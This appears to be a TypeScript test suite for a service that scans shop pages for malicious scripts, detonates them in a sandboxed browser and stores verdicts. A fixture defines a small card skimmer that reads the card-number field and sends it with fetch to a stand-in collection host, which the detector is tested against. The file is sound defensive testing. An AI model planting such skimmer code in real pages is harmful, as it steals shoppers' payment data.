// The examination of a recorded scan: what its contents are, what they did in the laboratory, and who may read it. The laboratory's browser is played.
import type { ScanJudgements } from '@tillwatch/core/contract'
import type { Detonation } from '@tillwatch/core/detection'
import { beforeEach, describe, expect, it } from 'vitest'
import { type ExamineContext, examineScan, getJudgements, giveUpExamination, type LaboratoryScript } from '#features/judgements/index.ts'
import { judgementsOf } from '#features/judgements/queries.ts'
import type { StoredJudgement } from '#features/judgements/stored.ts'
import { deleteScan, sweepContents } from '#features/scans/index.ts'
import { otherActor } from '../../support/context.ts'
import { coded, never, owner, scan, sha256Of, test } from '../inventory/watched-page.ts'

const vendor = 'https://cdn.stranger-vendor.example/a.js'
const skimmer = (host: string) =>
  `// one\ndocument.querySelector('#cc-number').onchange = function () {\n  fetch('https://${host}/c?' + this.value)\n}`
let made = 0
/** Harmless code that no scan has had before. */
const fresh = () => `window.menu${++made} = function () { document.body.classList.toggle('open') }`

const calm: Detonation = { version: 1, outcome: 'ran', why: null, durationMs: 5, gates: [], behaviours: [] }
const cutShort: Detonation = { ...calm, outcome: 'partial', why: 'There was no time for every kind of visitor.' }
const sends = (to: string): Detonation => ({
  ...calm,
  behaviours: [{ kind: 'sends', what: 'card', to, way: 'beacon', encoding: 'base64', gate: null }],
})
/** What ran in the laboratory, and with how much time. */
let ran: (LaboratoryScript & { timeoutMs: number })[]
beforeEach(() => {
  ran = []
})

const context = (change: Partial<ExamineContext> = {}): ExamineContext => ({ ...test.context, ...change })
/** A laboratory whose browser answers as the test wants. */
const laboratory = (answer: (script: LaboratoryScript) => Detonation | { none: string } = () => calm): Partial<ExamineContext> => ({
  laboratory: {
    version: 'played',
    run: async (script, { timeoutMs }) => {
      ran.push({ ...script, timeoutMs })
      return answer(script)
    },
    isFinal: ({ why }) => why !== cutShort.why,
  },
})
/** A scan that saw these scripts and kept their code. */
const scanOf = (...scripts: [url: string | null, code: string][]) =>
  scan(
    scripts.map(([url, code]) => (url === null ? { ...coded('', code), kind: 'inline', url: null, finalUrl: null } : coded(url, code))),
    undefined,
    undefined,
    'desktop',
    { codes: scripts.map(([, code]) => code) },
  )
const read = (id: string): Promise<ScanJudgements> => getJudgements(test.context, owner, id)
async function examined(scripts: [url: string | null, code: string][], change: Partial<ExamineContext> = {}): Promise<ScanJudgements> {
  const id = await scanOf(...scripts)
  await examineScan(context(change), id, never)
  return read(id)
}
const storedOf = (code: string) =>
  test.database.db.selectFrom('content_judgements').selectAll().where('sha256', '=', sha256Of(code)).executeTakeFirst()

describe('a second opinion', () => {
  const opinion = (code: string, verdict: 'benign' | 'malicious', confidence = 'high') =>
    test.database.db
      .insertInto('second_opinions')
      .values({
        ...{ id: crypto.randomUUID(), sha256: sha256Of(code), before_sha256: null, model: 'test:model', prompt_version: `${++made}` },
        ...{ outcome: 'answered', verdict, confidence, summary_en: 'It sends cookies.', summary_es: 'Envía cookies.' },
        ...{ answer: '{}', asked_at: new Date(), ended_at: new Date(), tries: 1 },
      })
      .execute()

  it('raises the verdict by one step and says so, and never lowers one', async () => {
    const [calmCode, grave] = [fresh(), `${skimmer('collect.stranger-shop.example')}//${++made}`]
    const id = await scanOf([vendor, calmCode], [vendor, grave])
    await examineScan(context(), id, never)
    await opinion(calmCode, 'malicious')
    await opinion(grave, 'benign')
    const { scripts, findings } = await read(id)
    const of = (code: string) => scripts.find(({ sha256 }) => sha256 === sha256Of(code))
    expect(of(calmCode)).toMatchObject({
      verdict: 'suspicious',
      opinion: { verdict: 'malicious', raises: true, summary: { es: 'Envía cookies.' } },
    })
    expect(of(grave)).toMatchObject({ verdict: 'malicious', opinion: { verdict: 'benign', raises: false } })
    expect(findings.map(({ code, sha256 }) => [code, sha256])).toEqual([
      ['script-malicious', sha256Of(grave)],
      ['script-suspicious', sha256Of(calmCode)],
    ])
  })

  it('of which the model is not sure raises nothing', async () => {
    const code = fresh()
    const id = await scanOf([vendor, code])
    await examineScan(context(), id, never)
    await opinion(code, 'malicious', 'low')
    expect((await read(id)).scripts).toMatchObject([{ verdict: 'benign', opinion: { confidence: 'low', raises: false } }])
  })
})

describe('an examination', () => {
  it('is queued with the recording of the scan, and waits until it is done', async () => {
    const id = await scanOf([vendor, fresh()])
    expect(test.examinationIds).toContain(id)
    expect(await read(id)).toMatchObject({ state: 'waiting', examinedAt: null, scripts: [], findings: [] })
    await examineScan(context(), id, never)
    expect(await read(id)).toMatchObject({ state: 'examined', versions: { laboratory: null } })
  })

  it('makes a critical finding of a skimmer, with reasons at their lines, and leaves the recorded result alone', async () => {
    const code = skimmer('collect.stranger-shop.example')
    const id = await scanOf([vendor, code], [vendor, fresh()])
    const before = await test.database.db.selectFrom('scans').select('result').where('id', '=', id).executeTakeFirst()
    await examineScan(context(), id, never)
    const { findings, scripts } = await read(id)
    expect(findings).toEqual([
      { code: 'script-malicious', severity: 'critical', requirement: '6.4.3', scriptIds: ['s1'], sha256: sha256Of(code) },
    ])
    expect(scripts.map(({ verdict }) => verdict)).toEqual(['malicious', 'benign'])
    expect(scripts[0]?.reasons[0]).toMatchObject({ code: 'card-to-stranger', weight: 'hard', places: [{ layer: 0, line: 3 }, {}] })
    expect(await test.database.db.selectFrom('scans').select('result').where('id', '=', id).executeTakeFirst()).toEqual(before)
  })

  it('knows that a page may send what is typed to its own site, though the same bytes elsewhere may not', async () => {
    const code = skimmer('pay.shop.example')
    const { findings, scripts } = await examined([['https://shop.example/checkout.js', code]])
    expect([findings, scripts[0]?.verdict]).toEqual([[], 'benign'])
    expect(await storedOf(code)).toMatchObject({ verdict: 'malicious' })
  })

  it('says of scripts that ran and were not kept that they were not judged', async () => {
    const id = await scan([coded(vendor, fresh())])
    await examineScan(context(), id, never)
    expect((await read(id)).scripts).toMatchObject([{ sha256: null, scriptIds: ['s1'], verdict: null, notJudged: 'not-kept' }])
  })

  it('stores a content that takes too long as not judged, which is not benign', async () => {
    const code = fresh()
    const { scripts, findings } = await examined([[vendor, code]], { judgeTimeoutMs: 1 })
    expect(scripts[0]).toMatchObject({ verdict: null, notJudged: 'too-slow', score: null })
    expect(findings).toEqual([])
    expect(await storedOf(code)).toMatchObject({ verdict: null, not_judged: 'too-slow' })
  })

  it('is done once, however often it is asked for, and what comes next is asked for once', async () => {
    const next: string[] = []
    const after = { afterExamination: [async (_db: unknown, { scanId }: { scanId: string }) => void next.push(scanId)] }
    const id = await scanOf([vendor, fresh()])
    for (let at = 0; at < 2; at++) await examineScan(context({ ...after, ...laboratory() }), id, never)
    await giveUpExamination(context(after), id)
    expect([next, ran.length, (await read(id)).state]).toEqual([[id], 1, 'examined'])
  })

  it('goes on where a worker that ended had stopped', async () => {
    const [first, second] = [fresh(), fresh()]
    const id = await scanOf([vendor, first], [vendor, second])
    const stopping = new AbortController()
    const stops = laboratory(({ text }) => {
      if (text === second) stopping.abort(new Error('the worker ends'))
      return calm
    })
    await expect(examineScan(context(stops), id, stopping.signal)).rejects.toThrow('the worker ends')
    expect((await read(id)).state).toBe('waiting')
    ran = []
    await examineScan(context(laboratory()), id, never)
    expect(ran.map(({ text }) => text)).toEqual([second])
    expect((await read(id)).scripts.every(({ laboratory: seen }) => seen?.outcome === 'ran')).toBe(true)
  })

  it('that failed each time leaves the scan as not examined, and what comes next is asked for', async () => {
    const next: string[] = []
    const id = await scanOf([vendor, fresh()])
    await giveUpExamination(context({ afterExamination: [async (_db, { scanId }) => void next.push(scanId)] }), id)
    expect([next, (await read(id)).state]).toEqual([[id], 'not-examined'])
  })
})

describe('the laboratory', () => {
  it('makes a finding of a card that was sent there, where the code shows nothing, and tells what was done', async () => {
    const { findings, scripts } = await examined(
      [[vendor, fresh()]],
      laboratory(() => sends('collect.stranger-shop.example')),
    )
    expect(findings).toMatchObject([{ code: 'script-malicious', severity: 'critical' }])
    expect(scripts[0]?.reasons[0]?.code).toBe('detonated-card-sent')
    expect(scripts[0]?.laboratory).toMatchObject({
      outcome: 'ran',
      version: 'played',
      behaviours: [{ kind: 'sends', gate: null, params: { what: 'card', to: 'collect.stranger-shop.example' } }],
    })
  })

  it('counts also where no judge can read the code in time', async () => {
    const code = `${'a;'.repeat(3_900_000)}${fresh()}`
    const { findings, scripts } = await examined([[vendor, code]], {
      ...laboratory(() => sends('collect.stranger-shop.example')),
      judgeTimeoutMs: 5_000,
    })
    expect([findings[0]?.code, scripts[0]?.reasons[0]?.code]).toEqual(['script-malicious', 'detonated-card-sent'])
  })

  it('is not asked about a content that is too long to be judged', async () => {
    const { scripts } = await examined([[vendor, `//${'a'.repeat(16_000_000)}`]], laboratory())
    expect(scripts[0]).toMatchObject({ verdict: null, notJudged: 'too-long', notDetonated: 'too-long' })
    expect(ran).toEqual([])
  })

  it('is not told which host served a script, and what goes back there goes to that host in the judgement for the page', async () => {
    const code = fresh()
    const { scripts } = await examined(
      [[vendor, code]],
      laboratory(({ url }) => sends(new URL(url ?? '').host)),
    )
    expect(ran[0]?.url).not.toContain('stranger-vendor')
    expect(JSON.stringify(await storedOf(code))).not.toContain('stranger-vendor')
    expect(scripts[0]?.reasons[0]?.sentence).toContain('cdn.stranger-vendor.example')
  })

  it('runs a content once for all scans and accounts', async () => {
    const code = fresh()
    await examined([[vendor, code]], laboratory())
    const { scripts } = await examined([[vendor, code]], laboratory())
    expect([ran.length, scripts[0]?.laboratory?.outcome]).toEqual([1, 'ran'])
  })

  it('runs of the shop’s own only what changed, and what stands out', async () => {
    const [steady, changed, inline] = [fresh(), fresh(), fresh()]
    const first = await examined([['https://shop.example/a.js', steady]], laboratory())
    expect([ran.length, first.scripts[0]?.notDetonated]).toEqual([0, 'known-first-party'])
    const standing = skimmer('collect.stranger-shop.example')
    await examined(
      [
        ['https://shop.example/a.js', steady],
        ['https://shop.example/a.js', changed],
        [null, inline],
        [null, standing],
      ],
      laboratory(),
    )
    expect(ran.map(({ text, url }) => [text, url])).toEqual([
      [standing, null],
      [changed, null],
      [inline, null],
    ])
  })

  it('does not run inline code of the shop again for the data of each visit', async () => {
    const visit = (token: string): [null, string][] => [[null, `window.visit = { token: '${token}' }; document.body.dataset.ready = 'yes'`]]
    await examined(visit('a1'), laboratory())
    const { scripts } = await examined(visit('b2'), laboratory())
    expect([ran.length, scripts[0]?.notDetonated]).toEqual([0, 'known-first-party'])
  })

  it('tries a content that did not come to its end in three scans, with more time in each, and forgets nothing that it saw', async () => {
    const code = fresh()
    const answers = [{ ...sends('own'), outcome: 'partial' as const, why: cutShort.why }, cutShort, cutShort]
    for (let at = 0; at < 4; at++)
      await examined(
        [[vendor, code]],
        laboratory(() => answers[at] ?? calm),
      )
    expect(ran.map(({ timeoutMs }) => timeoutMs)).toEqual([6_000, 12_000, 18_000])
    expect(await storedOf(code)).toMatchObject({ detonation_tries: 3, detonation: { outcome: 'partial', behaviours: [{ to: 'own' }] } })
  })

  it('does not try again what more time would not help', async () => {
    const code = fresh()
    const failed = { ...calm, outcome: 'partial' as const, why: 'The script failed: ReferenceError: vendor is not defined' }
    for (let at = 0; at < 2; at++)
      await examined(
        [[vendor, code]],
        laboratory(() => failed),
      )
    expect(ran).toHaveLength(1)
  })

  it('runs twenty contents in one examination, and the rest in the next', async () => {
    const scripts = Array.from({ length: 23 }, (): [string, string] => [vendor, fresh()])
    const first = await examined(scripts, laboratory())
    expect([ran.length, first.scripts.filter(({ notDetonated }) => notDetonated === 'later').length]).toEqual([20, 3])
    await examined(scripts, laboratory())
    expect(ran).toHaveLength(23)
  })

  it('that has no browser is told of, is asked once, and judged is all the same', async () => {
    const none = () => ({ none: 'There is no browser.' })
    const { scripts } = await examined(
      [
        [vendor, fresh()],
        [vendor, fresh()],
      ],
      laboratory(none),
    )
    expect(ran).toHaveLength(1)
    expect(scripts.map(({ verdict, laboratory: seen, notDetonated }) => [verdict, seen, notDetonated])).toEqual([
      ['benign', null, 'no-browser'],
      ['benign', null, 'no-browser'],
    ])
  })

  it('says where it is switched off', async () => {
    expect((await examined([[vendor, fresh()]])).scripts[0]?.notDetonated).toBe('switched-off')
  })
})

describe('what is stored of a content', () => {
  it('says nothing of any account, and is read by those alone whose scan had it', async () => {
    const code = skimmer('collect.stranger-shop.example')
    const id = await scanOf([vendor, code])
    await examineScan(context(laboratory()), id, never)
    const row = JSON.stringify(await storedOf(code))
    for (const word of [owner.accountId, id, 'shop.example/checkout', 'stranger-vendor']) expect(row).not.toContain(word)
    const other = await otherActor(test.database)
    await expect(getJudgements(test.context, other, id)).rejects.toMatchObject({ code: 'not-found' })
  })

  it('is there for other parts of the service by its hash, with what the laboratory saw', async () => {
    const code = fresh()
    await examined([[vendor, code]], laboratory())
    const stored: Map<string, StoredJudgement> = await judgementsOf(test.database.db, [sha256Of(code), '0'.repeat(64)])
    expect([...stored.keys()]).toEqual([sha256Of(code)])
    expect(stored.get(sha256Of(code))).toMatchObject({ verdict: 'benign', notJudged: null, laboratory: { detonation: calm, tries: 1 } })
  })

  it('goes when no scan keeps the content any more', async () => {
    const code = fresh()
    const id = await scanOf([vendor, code])
    await examineScan(context(), id, never)
    expect(await storedOf(code)).toBeDefined()
    await deleteScan(test.context, owner, id)
    await test.database.db
      .updateTable('blobs')
      .set({ stored_at: new Date('2026-01-01') })
      .where('sha256', '=', sha256Of(code))
      .execute()
    await sweepContents(test.context)
    expect(await storedOf(code)).toBeUndefined()
  })

  it('is judged anew under other rules, with what the laboratory saw', async () => {
    const code = fresh()
    await examined(
      [[vendor, code]],
      laboratory(() => sends('collect.stranger-shop.example')),
    )
    const row = { rules_version: 'older', verdict: 'benign' }
    await test.database.db.updateTable('content_judgements').set(row).where('sha256', '=', sha256Of(code)).execute()
    await examined([[vendor, code]], laboratory())
    expect(await storedOf(code)).toMatchObject({ verdict: 'malicious' })
    expect(ran).toHaveLength(1)
  })
})
